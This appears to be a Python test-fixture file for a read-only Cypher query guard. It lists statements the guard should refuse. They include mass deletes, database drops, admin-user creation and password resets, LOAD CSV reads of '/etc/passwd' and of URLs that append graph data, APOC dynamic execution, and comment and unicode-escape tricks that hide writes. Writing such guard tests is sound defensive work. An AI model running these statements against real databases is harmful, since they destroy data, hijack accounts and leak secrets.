"""Statements that try to do more than read, for every engine; `$url` and `$file` are parameters, {url} and {file} text.

Some try what one engine has and another has not. Each is to be refused, or not to be understood.
"""

from __future__ import annotations

import re

HOSTILE = r"""
CREATE (:Planted)
CREATE (n:Planted {id: 'x'}) RETURN n
INSERT (:Planted)
MERGE (n:Planted {id: 'x'}) RETURN n
MATCH (p:Place) SET p.name = 'Nowhere'
MATCH (p:Place) SET p += {name: 'Nowhere'} RETURN p
MATCH (p:Place) SET p:Planted
MATCH (p:Place) SET p['name'] = 'Nowhere'
MATCH (p:Place) REMOVE p.name
MATCH (p:Place) REMOVE p:Place
MATCH (n) DETACH DELETE n
MATCH (n) WITH n LIMIT 1 DETACH DELETE n RETURN count(*) AS gone
MATCH ()-[r]->() DELETE r
MATCH (a:Actor), (p:Place) CREATE (a)-[:PLANTED]->(p)
FOREACH (x IN [1] | CREATE (:Planted))
UNWIND [1, 2] AS x CREATE (:Planted {x: x}) RETURN x
CALL () { CREATE (:Planted) }
CALL { CREATE (:Planted) }
MATCH (p:Place) CALL (p) { SET p.name = 'Nowhere' }
UNWIND [1, 2] AS x CALL (x) { CREATE (:Planted) } IN TRANSACTIONS
MATCH (n) CALL (n) { DETACH DELETE n } IN TRANSACTIONS OF 10 ROWS
MATCH (n) CALL (n) { DETACH DELETE n } IN 2 CONCURRENT TRANSACTIONS
RETURN 1 AS x UNION CREATE (n:Planted) RETURN 1 AS x
MATCH (p:Place) WITH p WHERE p.id = 'berdin' SET p.name = 'Nowhere' RETURN p
RETURN 1 AS x NEXT CREATE (:Planted)
RETURN 1; CREATE (:Planted)
RETURN 1 AS x; RETURN 2 AS x
EXPLAIN CREATE (:Planted)
PROFILE CREATE (:Planted)
PROFILE MATCH (p:Place) SET p.name = 'Nowhere'
profile match (n) detach delete n
EXPLAIN PROFILE CREATE (:Planted)
CYPHER 5 CREATE (:Planted)
CYPHER 25 CREATE (:Planted)
CYPHER runtime=slotted CREATE (:Planted)
CYPHER planner=cost PROFILE CREATE (:Planted)
CYPHER 5 EXPLAIN PROFILE CREATE (:Planted)
CREATE INDEX planted FOR (n:Place) ON (n.kind)
CREATE INDEX planted IF NOT EXISTS FOR (n:Place) ON (n.kind)
CREATE FULLTEXT INDEX planted FOR (n:Place) ON EACH [n.kind]
CREATE TEXT INDEX planted FOR (n:Place) ON (n.kind)
CREATE POINT INDEX planted FOR (n:Place) ON (n.kind)
CREATE LOOKUP INDEX planted FOR (n) ON EACH labels(n)
CREATE VECTOR INDEX planted FOR (n:Place) ON (n.e) OPTIONS {indexConfig: {`vector.dimensions`: 3}}
CREATE CONSTRAINT planted FOR (n:Place) REQUIRE n.name IS UNIQUE
CREATE CONSTRAINT planted FOR (n:Place) REQUIRE n.name IS NOT NULL
DROP INDEX place_id
DROP INDEX place_id IF EXISTS
DROP CONSTRAINT place_id
DROP CONSTRAINT place_id IF EXISTS
CALL db.createLabel('Planted')
CALL db.createProperty('planted')
CALL db.createRelationshipType('PLANTED')
CALL db.create.setNodeVectorProperty(null, 'e', [1.0])
MATCH (p:Place) CALL db.create.setNodeVectorProperty(p, 'e', [1.0]) RETURN p
LOAD CSV FROM '{url}' AS line RETURN line
LOAD CSV FROM $url AS line RETURN line
LOAD CSV WITH HEADERS FROM '{url}' AS line RETURN line LIMIT 1
load csv from "{url}" as line return line
LOAD CSV FROM '{file}' AS line RETURN line
LOAD CSV FROM $file AS line RETURN line
LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line
LOAD CSV FROM 'jar:{url}!/x' AS line RETURN line
LOAD CSV FROM 'ftp://127.0.0.1/x' AS line RETURN line
LOAD CSV FROM '{url}?' + toString(1) AS line RETURN line
MATCH (s:Statement) LOAD CSV FROM '{url}?q=' + s.id AS line RETURN line
CALL () { LOAD CSV FROM '{url}' AS line RETURN line } RETURN line
RETURN EXISTS { LOAD CSV FROM '{url}' AS line RETURN line } AS x
RETURN COLLECT { LOAD CSV FROM '{url}' AS line RETURN line[0] } AS x
RETURN COUNT { LOAD CSV FROM '{url}' AS line RETURN line } AS x
USING PERIODIC COMMIT LOAD CSV FROM '{url}' AS line RETURN line
RETURN 1 AS line UNION LOAD CSV FROM '{url}' AS line RETURN line
PROFILE LOAD CSV FROM '{url}' AS line RETURN line
CALL apoc.load.json('{url}')
CALL apoc.load.csv('{file}')
CALL apoc.cypher.run('CREATE (:Planted)', {})
CALL apoc.cypher.doIt('CREATE (:Planted)', {})
CALL apoc.do.when(true, 'CREATE (:Planted)', '', {}) YIELD value RETURN value
CALL apoc.do.when(true, "LOAD CSV FROM '{url}' AS line RETURN line", '', {}) YIELD value RETURN value
CALL do.when(true, 'MATCH (n) DETACH DELETE n', '', {}) YIELD value RETURN value
CALL () { CALL do.when(true, $write, '', {}) YIELD value RETURN value } RETURN value
CALL merge.node(['Planted'], {a: 1}, {}, {}) YIELD node RETURN node
CALL () { CALL merge.node(['Planted'], {a: 1}, {}, {}) YIELD node RETURN node } RETURN node
CALL db.migrateLegacyTemporals()
CALL dbms.components()
CALL dbms.components() YIELD name RETURN name
CALL dbms.components
call DBMS.COMPONENTS()
CALL `dbms`.`components`()
CALL /* as ever */ dbms . components ()
CALL dbms.info()
CALL dbms.listConfig()
CALL dbms.listConfig('password') YIELD name, value RETURN name, value
CALL dbms.queryJmx('*:*')
CALL dbms.showCurrentUser()
CALL dbms.security.createUser('planted', 'planted-password', false)
CALL dbms.setConfigValue('server.logs.debug.enabled', 'false')
CALL dbms.killTransactions(['x'])
CALL () { CALL dbms.components() YIELD name RETURN name } RETURN name
UNWIND [1] AS x CALL dbms.components() YIELD name RETURN name
RETURN EXISTS { CALL dbms.components() YIELD name RETURN name } AS x
RETURN 1 AS name UNION CALL dbms.components() YIELD name RETURN name
CALL db.clearQueryCaches()
CALL db.awaitIndexes(3000)
CALL db.checkpoint()
CALL db.info()
CALL db.stats.retrieve('QUERIES')
CALL tx.setMetaData({app: 'planted'})
CALL tx.getMetaData()
SHOW USERS
SHOW CURRENT USER
SHOW SETTINGS
SHOW DATABASES
SHOW TRANSACTIONS
SHOW TRANSACTIONS YIELD transactionId AS id TERMINATE TRANSACTIONS id YIELD message RETURN message
TERMINATE TRANSACTIONS 'neo4j-transaction-1'
SHOW PROCEDURES
CREATE USER planted SET PASSWORD 'planted-password'
CREATE OR REPLACE USER neo4j SET PASSWORD 'planted-password'
ALTER USER neo4j SET PASSWORD 'planted-password'
ALTER CURRENT USER SET PASSWORD FROM 'x' TO 'planted-password'
DROP USER neo4j
GRANT ROLE admin TO neo4j
CREATE DATABASE planted
DROP DATABASE neo4j
STOP DATABASE neo4j
ALTER DATABASE neo4j SET ACCESS READ ONLY
CREATE ALIAS planted FOR DATABASE neo4j
USE system SHOW USERS
USE system CREATE USER planted SET PASSWORD 'planted-password'
USE system MATCH (n) RETURN n
USE system CALL dbms.components() YIELD name RETURN name
CALL () { USE system MATCH (n) RETURN n } RETURN n
MATCH (p:Place) CALL (p) { SET p.name = 'Nowhere' } IN TRANSACTIONS OF 1 ROWS
MATCH (p:Place) CALL (p) { SET p.name = 'Nowhere' RETURN p.name AS name } RETURN name
MATCH (p:Place) WHERE EXISTS { MATCH (p) CALL (p) { SET p.name = 'Nowhere' RETURN 1 AS x } RETURN x } RETURN p
RETURN 1 AS x } AS y RETURN EXISTS { CREATE (:Planted)
MATCH (n) RETURN n } IN TRANSACTIONS MATCH (n) CALL (n) { DETACH DELETE n
START TRANSACTION
COMMIT
ROLLBACK
SESSION RESET
SESSION CLOSE
/* only reading */ CREATE (:Planted)
/**/CREATE/**/(:Planted)
/* RETURN 1 */ MATCH (n) /* RETURN n */ DETACH /**/ DELETE n
// RETURN 1\nCREATE (:Planted)
RETURN 1 AS x //\nCREATE (:Planted)
// MATCH (n) RETURN n\r\nMATCH (n) DETACH DELETE n
*/ CREATE (:Planted) /*
/* */ */ CREATE (:Planted)
EXPLAIN /* */ PROFILE CREATE (:Planted)
/* */ SHOW USERS
// reading\nSHOW TRANSACTIONS
\t\n CREATE (:Planted)
\u00a0CREATE (:Planted)
\ufeffCREATE (:Planted)
\\u0043REATE (:Planted)
\\u0043\\u0052\\u0045\\u0041\\u0054\\u0045 (:Planted)
\\u002a\\u002f CREATE (:Planted)
\\u002f\\u002a x \\u002a\\u002f CREATE (:Planted)
\\u000aCREATE (:Planted)
RETURN 1 AS x \\u003b CREATE (:Planted)
L\\u004fAD CSV FROM '{url}' AS line RETURN line
CALL \\u0064bms.components()
C\\u0041LL dbms\\u002ecomponents()
RETURN '\\u0027 AS x CREATE (:Planted) RETURN \\u0027' AS y
MATCH (n) WHERE n.id = '\\u0027 OR true DETACH DELETE n //' RETURN n
RETURN 1 AS x // \\u000aCREATE (:Planted)
"""

ESCAPES = {r"\n": "\n", r"\r": "\r", r"\t": "\t", r"\u00a0": "\u00a0", r"\ufeff": "\ufeff", "\\\\": "\\"}

HARMLESS: list[list[dict[str, object]]] = [[], [{"x": 1}], [{"y": "' AS x CREATE (:Planted) RETURN '"}]]
"""What is answered to the last few where an escape is read within a string alone, and so ends neither it nor a line."""


def hostile(url: str, file: str) -> list[str]:
    """The statements, aimed at an address and a file that nobody is to ask for."""
    written = (line.replace("{url}", url).replace("{file}", file) for line in HOSTILE.strip().splitlines())
    return [re.sub("|".join(map(re.escape, ESCAPES)), lambda found: ESCAPES[found[0]], line) for line in written]
